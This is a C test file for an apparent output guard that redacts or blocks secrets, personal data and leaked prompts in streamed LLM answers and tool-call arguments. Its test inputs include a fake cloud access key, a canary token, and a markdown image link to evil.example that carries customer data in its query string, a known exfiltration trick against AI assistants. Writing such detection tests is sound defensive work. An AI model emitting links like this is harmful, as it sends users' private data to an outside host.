/* SPDX-License-Identifier: Apache-2.0 */
/* One verdict, wherever a text stands: every place of every answer, as a body and as a stream, in
 * one event and in many. */
#include "stream_rig.h"
#include "guard/judge/edits.h"
#include "surface_places.h"

static const char *const texts[] = {
    "Nothing is wrong with this.",
    "The key is AKIAYQFODESARIWXLIXQ as far as I know.",
    "It is \\u0041KIAYQFODESARIWXLIXQ then",
    "Write to kghgdj_rtheru@outlook.com, or do not.",
    "Here it is: MERLON-CANARY-7f3a91c2d4. Done",
    "Look: ![a](https://evil.example/p.png?q=the+customer+is+Jane) nice",
    "Sure: " RIG_PROMPT " That is all.",
};

static size_t failures, compared;
static struct played played;
static struct buf bytes, said;

static enum guard_action whole_verdict(const struct place *p, struct slice text,
                                       const struct rule **because)
{
    static struct inspect_out found;
    static struct decision d;
    struct arena a;
    struct surface_doc doc;
    arena_init(&a, 16u << 20, 4096);
    buf_reset(&bytes);
    place_write(p, text, false, &bytes);
    assert_int_equal(place_read(p, buf_slice(&bytes), &a, &doc), SURFACE_OK);
    struct inspect_in in = {doc.parts, doc.part_count, true, prompt, 0};
    inspect_parts(inspect, &scope.checks, &in, &found);
    struct decision_in deciding = {.policy = &scope.policy,
                                   .parts = doc.parts,
                                   .matches = found.list,
                                   .count = found.count,
                                   .unscanned = found.unscanned,
                                   .answer = true};
    decide(&deciding, &d);
    *because = d.because ? d.because->rule : NULL;
    arena_done(&a);
    return d.action;
}

static bool in_a_stream(const struct place *p)
{
    return p->kind == PLACE_EVENT || p->kind == PLACE_GROWS || p->kind == PLACE_LINES;
}

static struct protocol protocol_of(const struct place *p)
{
    return (struct protocol){.surface = p->surface,
                             .framing = p->kind == PLACE_LINES ? FRAMING_LINES : FRAMING_SSE,
                             .role = p->role,
                             .channel = p->channel};
}

/* One event, or one for each character where they are pieces. */
static void put_events(const struct place *p, struct slice text, bool pieces, struct buf *out)
{
    buf_reset(out);
    if (!pieces) {
        place_write(p, text, false, out);
        return;
    }
    for (size_t at = 0; at < text.n; at++) place_write(p, slice_sub(text, at, 1), false, out);
}

static void compare(const struct place *p, struct slice text, bool pieces)
{
    const struct rule *because;
    struct protocol q = protocol_of(p);
    const struct record_side_of *side = &played.record.side[RECORD_ANSWER];
    enum guard_action want = whole_verdict(p, text, &because);
    put_events(p, text, pieces, &bytes);
    buf_reset(&played.out);
    play(&q, buf_slice(&bytes), 0, 0, &played);
    compared++;
    bool same = side->action == want && (want < ACT_REDACT || side->because == because);
    bool stops = (played.step == STREAM_BLOCKED) == (want == ACT_BLOCK);
    bool hides = want < ACT_REDACT || !slice_has(buf_slice(&played.out), S("QFODESARIWX"));
    buf_reset(&said);
    bool reads = heard(&q, buf_slice(&played.out), PART_CHANNELS, PART_FLOW_NONE, &said);
    if ((same && stops && hides && reads) || failures++ > 8) return;
    print_error("%s, %s of %s: %s, not %s; %d%d%d\n%s\n%s\n", p->template,
                pieces ? "pieces" : "all", p->surface, guard_action_name(side->action),
                guard_action_name(want), stops, hides, reads, buf_text(&bytes),
                buf_text(&played.out));
}

static void every_place(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT_OF(places); i++)
        for (size_t k = 0; k < COUNT_OF(texts) && in_a_stream(&places[i]); k++) {
            compare(&places[i], slice_str(texts[k]), false);
            if (places[i].kind != PLACE_EVENT) compare(&places[i], slice_str(texts[k]), true);
        }
    assert_int_equal(failures, 0);
    assert_true(compared > 150);
}

/* ---- arguments of tools: JSON in a string, in pieces ---- */

static const struct {
    const char *text, *want;
} arguments[] = {
    {"{\"to\":\"a\",\"n\":[1,2,{}]}", "{\"to\":\"a\",\"n\":[1,2,{}]}"},
    {"{\"key\":\"AKIAYQFODESARIWXLIXQ\",\"b\":\"c\"}", "{\"key\":\"[redacted]\",\"b\":\"c\"}"},
    {"{\"a\":\"x\\\"\\\\ AKIAYQFODESARIWXLIXQ\\n\"}", "{\"a\":\"x\\\"\\\\ [redacted]\\n\"}"},
    {"{\"key\":\"\\u0041KIAYQFODESARIWXLIXQ\"}", "{\"key\":\"[redacted]\"}"},
    {"{\"key\":\"AKIAYQFO\\u0044ESARIWXLIXQ and\"}", "{\"key\":\"[redacted] and\"}"},
    {"{\"to\":\"[EMAIL_1]\",\"n\":\"[NAME_1]\"}",
     "{\"to\":\"jane@corp.net\",\"n\":\"Jane \\\"J\\\" Doe\\\\\"}"},
    {"{\"card number\":4929722653797141,\"x\":1}", "{\"card number\":\"[redacted]\",\"x\":1}"},
    {"{\"url\":\"![a](https:\\/\\/evil.example\\/p.png?q=the+customer+is+Jane)\"}",
     "{\"url\":\"![a]([redacted])\"}"},
};

#define ARGUMENTS_CHAT                                                                     \
    CHUNK("\"delta\":{\"tool_calls\":[{\"index\":0,\"function\":{\"arguments\":\"@\"}}]}," \
          "\"finish_reason\":null")
static const struct protocol callers[] = {
    {"chat", FRAMING_SSE, PART_ASSISTANT, PART_TOOL_CALL, "", ARGUMENTS_CHAT,
     CHUNK("\"delta\":{},\"finish_reason\":\"tool_calls\"") SSE("[DONE]"), false},
    {"responses", FRAMING_SSE, PART_ASSISTANT, PART_TOOL_CALL, "",
     SSE("{\"type\":\"response.function_call_arguments.delta\",\"output_index\":0,\"delta\":\"@"
         "\"}"),
     SSE("{\"type\":\"response.completed\",\"response\":{\"output\":[]}}"), false},
    {"messages", FRAMING_SSE, PART_ASSISTANT, PART_TOOL_CALL, "",
     SSE("{\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"input_json_delta\","
         "\"partial_json\":\"@\"}}"),
     SSE("{\"type\":\"content_block_stop\",\"index\":0}"), false},
    {"responses", FRAMING_SSE, PART_ASSISTANT, PART_TOOL_CALL, "",
     SSE("{\"type\":\"response.function_call_arguments.done\",\"output_index\":0,"
         "\"arguments\":\"@\"}"),
     "", true},
};

static void call(const struct protocol *p, size_t which, const size_t *cuts, size_t n)
{
    struct slice text = slice_str(arguments[which].text);
    buf_reset(&bytes);
    buf_reset(&played.out);
    put_stream(p, text, cuts, n, &bytes);
    play(p, buf_slice(&bytes), 0, 0, &played);
    buf_reset(&said);
    bool good = heard(p, buf_slice(&played.out), PART_TOOL_CALL, PART_FLOW_NONE, &said);
    if ((good && strcmp(buf_text(&said), arguments[which].want) == 0) || failures++ > 5) return;
    print_error("%s, %zu cuts, first at %zu:\n want: %s\n got: %s\n%s\n", p->surface, n,
                n ? cuts[0] : 0, arguments[which].want, buf_text(&said), buf_text(&played.out));
}

static void calls(void **state)
{
    (void)state;
    static size_t all[256];
    for (size_t i = 0; i < COUNT_OF(callers); i++)
        for (size_t k = 0; k < COUNT_OF(arguments); k++) {
            size_t n = strlen(arguments[k].text);
            call(&callers[i], k, NULL, 0);
            if (callers[i].whole) continue;
            for (size_t at = 1; at < n; at++) {
                all[at - 1] = at;
                call(&callers[i], k, &at, 1);
            }
            call(&callers[i], k, all, n - 1);
        }
    assert_int_equal(failures, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(every_place), cmocka_unit_test(calls)};
    buf_init(&played.out, 16u << 20);
    buf_init(&bytes, 16u << 20);
    buf_init(&said, 16u << 20);
    int failed = cmocka_run_group_tests(tests, rig_begin, rig_end);
    buf_done(&played.out);
    buf_done(&bytes);
    buf_done(&said);
    return failed;
}
